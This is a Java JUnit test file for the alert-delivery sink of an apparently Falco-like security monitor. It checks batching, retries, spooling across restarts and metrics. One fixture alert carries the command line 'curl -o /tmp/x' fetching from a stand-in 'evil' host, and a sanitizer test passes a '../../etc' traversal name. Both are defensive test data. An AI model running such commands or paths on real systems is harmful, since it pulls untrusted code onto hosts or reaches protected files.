package dev.vigil.sink.delivery;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.vigil.alert.Alert;
import dev.vigil.alert.Priority;
import dev.vigil.common.Metrics;
import dev.vigil.sink.TestAlerts;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class DeliveringSinkTest {

  @TempDir
  Path dataDir;

  private final Metrics metrics = Metrics.inMemory();
  private final List<DeliveringSink> open = new ArrayList<>();

  @AfterEach
  void closeAll() {
    open.forEach(s -> s.close(Duration.ofSeconds(1)));
  }

  /** A destination whose answer to each call the test scripts; records every call. */
  static final class ScriptedDestination implements Destination {
    interface Behaviour {
      void answer(List<Envelope> batch) throws DeliveryException, InterruptedException;
    }

    final String name;
    final int maxBatch;
    volatile Behaviour behaviour = b -> { };
    final List<List<Envelope>> calls = new CopyOnWriteArrayList<>();
    final List<Envelope> acknowledged = new CopyOnWriteArrayList<>();
    final AtomicInteger concurrent = new AtomicInteger();
    volatile int maxConcurrent;

    ScriptedDestination(String name, int maxBatch) {
      this.name = name;
      this.maxBatch = maxBatch;
    }

    @Override
    public String name() {
      return name;
    }

    @Override
    public int maxBatch() {
      return maxBatch;
    }

    @Override
    public void deliver(List<Envelope> batch) throws DeliveryException {
      int c = concurrent.incrementAndGet();
      maxConcurrent = Math.max(maxConcurrent, c);
      try {
        calls.add(List.copyOf(batch));
        try {
          behaviour.answer(batch);
        } catch (InterruptedException e) {
          Thread.currentThread().interrupt();
          throw new DeliveryException("interrupted", true);
        }
        acknowledged.addAll(batch);
      } finally {
        concurrent.decrementAndGet();
      }
    }

    Set<String> ackedRules() {
      return acknowledged.stream().map(e -> e.alert().rule()).collect(Collectors.toSet());
    }
  }

  private static DeliveryOptions options() {
    return new DeliveryOptions(Priority.DEBUG, 1000, Duration.ofSeconds(2), Duration.ofMillis(10),
        Duration.ofMillis(50), 1024 * 1024, FsyncPolicy.NEVER);
  }

  private DeliveringSink sink(Destination d, DeliveryOptions o) {
    DeliveringSink s = new DeliveringSink(d, o, dataDir.resolve("spool"), metrics, Clock.systemUTC());
    open.add(s);
    return s;
  }

  private static void await(String what, java.util.function.BooleanSupplier cond) throws InterruptedException {
    long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(20);
    while (!cond.getAsBoolean()) {
      if (System.nanoTime() > end) {
        throw new AssertionError("timed out waiting for: " + what);
      }
      Thread.sleep(10);
    }
  }

  @Test
  void alertsAreDeliveredInOrder_inBatches_withUniqueIds_andLeaveTheSpool() throws Exception {
    ScriptedDestination d = new ScriptedDestination("bulk", 50);
    DeliveringSink s = sink(d, options());
    s.start();
    for (int i = 0; i < 500; i++) {
      s.accept(TestAlerts.alert("rule-" + i, i));
    }
    await("500 delivered", () -> d.acknowledged.size() == 500);
    assertThat(d.acknowledged.stream().map(e -> e.alert().rule()).collect(Collectors.toList()))
        .containsExactlyElementsOf(java.util.stream.IntStream.range(0, 500).mapToObj(i -> "rule-" + i)
            .collect(Collectors.toList()));
    assertThat(d.calls).allMatch(b -> b.size() <= 50);
    assertThat(d.acknowledged.stream().map(Envelope::id).distinct().count()).isEqualTo(500);
    assertThat(d.acknowledged.get(0).id()).matches("[0-9a-f-]{36}");
    await("spool empty", () -> s.state().spoolRecords() == 0);
    assertThat(metrics.count("vigil.sink.delivered", "sink", "bulk")).isEqualTo(500);
    assertThat(metrics.registry().get("vigil.sink.latency").tag("sink", "bulk").timer().count())
        .isEqualTo(d.calls.size());
  }

  @Test
  void deliveredAlerts_keepEveryFieldOfTheAlert() throws Exception {
    ScriptedDestination d = new ScriptedDestination("x", 1);
    DeliveringSink s = sink(d, options());
    s.start();
    Alert a = TestAlerts.alert("Remote copy", "abc123abc123", Priority.CRITICAL, TestAlerts.T0, "curl",
        "curl -o /tmp/x 'http://evil/\u0001'");
    s.accept(a);
    await("delivered", () -> d.acknowledged.size() == 1);
    Alert got = d.acknowledged.get(0).alert();
    assertThat(got.time()).isEqualTo(a.time());
    assertThat(got.output()).isEqualTo(a.output());
    assertThat(got.tags()).isEqualTo(a.tags());
    assertThat(got.priority()).isEqualTo(Priority.CRITICAL);
    assertThat(got.outputFields().get("proc.cmdline")).isEqualTo("curl -o /tmp/x 'http://evil/\u0001'");
    assertThat(got.outputFields().get("proc.pid")).isEqualTo(4242L);
    assertThat(got.outputFields().get("user.root")).isEqualTo(true);
  }

  @Test
  void retryableFailures_areRetriedWithTheSameIds_untilAcknowledged() throws Exception {
    ScriptedDestination d = new ScriptedDestination("flaky", 10);
    AtomicInteger failuresLeft = new AtomicInteger(5);
    d.behaviour = b -> {
      if (failuresLeft.getAndDecrement() > 0) {
        throw new DeliveryException("flaky: HTTP 503", true);
      }
    };
    DeliveringSink s = sink(d, options());
    s.start();
    for (int i = 0; i < 30; i++) {
      s.accept(TestAlerts.alert("r" + i, i));
    }
    await("30 delivered", () -> d.acknowledged.size() == 30);
    assertThat(metrics.count("vigil.sink.retries", "sink", "flaky")).isEqualTo(5);
    assertThat(metrics.count("vigil.sink.failed", "sink", "flaky")).isZero();
    // the first batch was offered six times, always with the same ids
    List<String> firstIds = d.calls.get(0).stream().map(Envelope::id).collect(Collectors.toList());
    assertThat(d.calls.subList(0, 6)).allSatisfy(c ->
        assertThat(c.stream().map(Envelope::id).collect(Collectors.toList())).isEqualTo(firstIds));
    assertThat(d.acknowledged.stream().map(Envelope::id).distinct().count()).isEqualTo(30);
  }

  @Test
  void nonRetryableFailure_isCountedAndSkipped_theNextAlertsStillArrive() throws Exception {
    ScriptedDestination d = new ScriptedDestination("picky", 1);
    d.behaviour = b -> {
      if (b.get(0).alert().rule().equals("bad")) {
        throw new DeliveryException("picky: HTTP 400 invalid_payload", false);
      }
    };
    DeliveringSink s = sink(d, options());
    s.start();
    s.accept(TestAlerts.alert("good1", 1));
    s.accept(TestAlerts.alert("bad", 2));
    s.accept(TestAlerts.alert("good2", 3));
    await("good ones delivered", () -> d.acknowledged.size() == 2);
    assertThat(d.ackedRules()).containsExactlyInAnyOrder("good1", "good2");
    assertThat(metrics.count("vigil.sink.failed", "sink", "picky")).isEqualTo(1);
    assertThat(d.calls.stream().filter(c -> c.get(0).alert().rule().equals("bad")).count()).isEqualTo(1);
    await("spool empty", () -> s.state().spoolRecords() == 0);
    assertThat(s.state().lastError()).isNull();
  }

  @Test
  void callThatHangsPastTheTimeout_isCutOff_andRetried_neverTwoCallsAtOnce() throws Exception {
    ScriptedDestination d = new ScriptedDestination("slow", 1);
    AtomicInteger calls = new AtomicInteger();
    d.behaviour = b -> {
      if (calls.getAndIncrement() == 0) {
        Thread.sleep(60_000); // hangs; interrupted by the delivery layer
      }
    };
    DeliveryOptions o = new DeliveryOptions(Priority.DEBUG, 100, Duration.ofMillis(200), Duration.ofMillis(10),
        Duration.ofMillis(20), 1024 * 1024, FsyncPolicy.NEVER);
    DeliveringSink s = sink(d, o);
    s.start();
    long t0 = System.nanoTime();
    s.accept(TestAlerts.alert("a", 1));
    await("delivered after the hang", () -> d.acknowledged.size() == 1);
    assertThat(Duration.ofNanos(System.nanoTime() - t0)).isLessThan(Duration.ofSeconds(10));
    assertThat(metrics.count("vigil.sink.retries", "sink", "slow")).isEqualTo(1);
    assertThat(d.maxConcurrent).isEqualTo(1);
  }

  @Test
  void retryAfter_fromTheDestination_isHonoured() throws Exception {
    ScriptedDestination d = new ScriptedDestination("limited", 1);
    List<Long> at = new CopyOnWriteArrayList<>();
    d.behaviour = b -> {
      at.add(System.nanoTime());
      if (at.size() == 1) {
        throw RetryAfter.failure("limited: HTTP 429", Duration.ofMillis(700));
      }
    };
    DeliveringSink s = sink(d, options()); // own back-off would be 10..50 ms
    s.start();
    s.accept(TestAlerts.alert("a", 1));
    await("delivered", () -> d.acknowledged.size() == 1);
    assertThat(TimeUnit.NANOSECONDS.toMillis(at.get(1) - at.get(0))).isGreaterThanOrEqualTo(650);
  }

  @Test
  void belowMinimumPriority_isNotDelivered() throws Exception {
    ScriptedDestination d = new ScriptedDestination("pager", 1);
    DeliveringSink s = sink(d, options().withMinPriority(Priority.ERROR));
    s.start();
    s.accept(TestAlerts.alert("notice", "c1", Priority.NOTICE, TestAlerts.T0, "sh", "sh"));
    s.accept(TestAlerts.alert("critical", "c1", Priority.CRITICAL, TestAlerts.T0, "sh", "sh"));
    s.accept(TestAlerts.alert("error", "c1", Priority.ERROR, TestAlerts.T0, "sh", "sh"));
    await("two delivered", () -> d.acknowledged.size() == 2);
    Thread.sleep(100);
    assertThat(d.ackedRules()).containsExactlyInAnyOrder("critical", "error");
  }

  @Test
  void fullMemoryQueue_dropsAndCounts_withoutBlockingTheCaller() {
    ScriptedDestination d = new ScriptedDestination("q", 1);
    DeliveryOptions o = new DeliveryOptions(Priority.DEBUG, 5, Duration.ofSeconds(1), Duration.ofMillis(10),
        Duration.ofMillis(20), 1024 * 1024, FsyncPolicy.NEVER);
    DeliveringSink s = sink(d, o); // not started: nothing drains the queue
    for (int i = 0; i < 8; i++) {
      s.accept(TestAlerts.alert("r", i));
    }
    assertThat(s.state().queued()).isEqualTo(5);
    assertThat(metrics.count("vigil.sink.dropped", "sink", "q")).isEqualTo(3);
  }

  @Test
  void outageThenRestart_everyAlertArrives_withTheIdsItHadBefore() throws Exception {
    ScriptedDestination down = new ScriptedDestination("hook", 1);
    down.behaviour = b -> {
      throw new DeliveryException("hook: connection refused", true);
    };
    DeliveringSink first = sink(down, options());
    first.start();
    for (int i = 0; i < 200; i++) {
      first.accept(TestAlerts.alert("r" + i, i));
    }
    await("all spooled", () -> first.state().spoolRecords() == 200);
    Set<String> triedIds = down.calls.stream().flatMap(List::stream).map(Envelope::id).collect(Collectors.toSet());
    first.close(Duration.ofMillis(500));
    open.remove(first);

    ScriptedDestination up = new ScriptedDestination("hook", 1);
    DeliveringSink second = sink(up, options());
    assertThat(second.state().spoolRecords()).isEqualTo(200);
    second.start();
    second.accept(TestAlerts.alert("after-restart", 999));
    await("all delivered", () -> up.acknowledged.size() == 201);
    List<String> rules = up.acknowledged.stream().map(e -> e.alert().rule()).collect(Collectors.toList());
    assertThat(rules.get(200)).as("the spool is replayed before new alerts").isEqualTo("after-restart");
    assertThat(rules.subList(0, 200)).containsExactlyElementsOf(
        java.util.stream.IntStream.range(0, 200).mapToObj(i -> "r" + i).collect(Collectors.toList()));
    Set<String> deliveredIds = up.acknowledged.stream().map(Envelope::id).collect(Collectors.toSet());
    assertThat(deliveredIds).containsAll(triedIds);
  }

  @Test
  void close_drainsTheQueueIntoTheSpool_andDeliversWhileTheDestinationAnswers() throws Exception {
    ScriptedDestination d = new ScriptedDestination("drain", 20);
    DeliveringSink s = sink(d, options());
    s.start();
    for (int i = 0; i < 300; i++) {
      s.accept(TestAlerts.alert("r" + i, i));
    }
    s.close(Duration.ofSeconds(10));
    open.remove(s);
    assertThat(d.acknowledged).hasSize(300);
    assertThat(metrics.count("vigil.sink.dropped", "sink", "drain")).isZero();
  }

  @Test
  void closeWithoutWaiting_stillSpoolsEverythingQueued() throws Exception {
    ScriptedDestination d = new ScriptedDestination("abrupt", 1);
    d.behaviour = b -> {
      throw new DeliveryException("abrupt: connection refused", true);
    };
    DeliveringSink s = sink(d, options());
    s.start();
    for (int i = 0; i < 800; i++) {
      s.accept(TestAlerts.alert("r" + i, i));
    }
    s.close(Duration.ZERO);
    open.remove(s);
    assertThat(metrics.count("vigil.sink.dropped", "sink", "abrupt")).isZero();
    assertThat(s.state().spoolRecords()).isEqualTo(800);
  }

  @Test
  void spoolFilling_sendsOneAlertThroughTheAlertPath_withTheExactRuleName() throws Exception {
    ScriptedDestination d = new ScriptedDestination("stuck", 1);
    d.behaviour = b -> {
      throw new DeliveryException("stuck: HTTP 503", true);
    };
    DeliveryOptions o = new DeliveryOptions(Priority.DEBUG, 1000, Duration.ofSeconds(1), Duration.ofMillis(200),
        Duration.ofMillis(200), 128 * 1024, FsyncPolicy.NEVER);
    DeliveringSink s = sink(d, o);
    List<Alert> path = Collections.synchronizedList(new ArrayList<>());
    s.setAlertPath(path::add);
    s.start();
    for (int i = 0; i < 400; i++) { // ~500 bytes each, 200 KB: past the bound
      s.accept(TestAlerts.alert("r" + i, i));
    }
    await("filling alert", () -> !path.isEmpty());
    Thread.sleep(300);
    assertThat(path).hasSize(1);
    Alert a = path.get(0);
    assertThat(a.rule()).isEqualTo("Alert spool filling");
    assertThat(a.priority()).isEqualTo(Priority.ERROR);
    assertThat(a.source()).isEqualTo("vigil");
    assertThat(a.hostname()).as("stamped at the head of the alert path").isNull();
    assertThat(a.outputFields()).containsEntry("vigil.sink", "stuck").containsKey("vigil.spool.bytes");
    assertThat(a.output()).contains("stuck").contains("%");
    await("oldest dropped", () -> s.spool().droppedRecords() > 0);
  }

  @Test
  void unusableSpoolDirectory_failsWithThePath() throws Exception {
    Path file = Files.createFile(dataDir.resolve("not-a-dir"));
    assertThatThrownBy(() -> new DeliveringSink(new ScriptedDestination("x", 1), options(), file, metrics,
        Clock.systemUTC())).isInstanceOf(UncheckedIOException.class).hasMessageContaining("not-a-dir")
        .hasMessageContaining("sink x");
  }

  @Test
  void sinkNames_becomeSafeDirectoryNames() {
    assertThat(DeliveringSink.directoryName("webhook:siem")).isEqualTo("webhook_siem");
    assertThat(DeliveringSink.directoryName("../../etc")).isEqualTo("______etc");
    assertThat(DeliveringSink.directoryName("..")).isEqualTo("__");
  }

  @Test
  void metricsAndGauges_areRegisteredPerSink() throws Exception {
    ConcurrentHashMap<String, Boolean> seen = new ConcurrentHashMap<>();
    ScriptedDestination d = new ScriptedDestination("m", 1);
    sink(d, options());
    metrics.registry().getMeters().forEach(m -> {
      if ("m".equals(m.getId().getTag("sink"))) {
        seen.put(m.getId().getName(), true);
      }
    });
    assertThat(seen.keySet()).contains("vigil.sink.delivered", "vigil.sink.failed", "vigil.sink.retries",
        "vigil.sink.dropped", "vigil.sink.latency", "vigil.sink.spool.records", "vigil.sink.spool.bytes",
        "vigil.sink.spool.dropped", "vigil.sink.queue");
  }
}
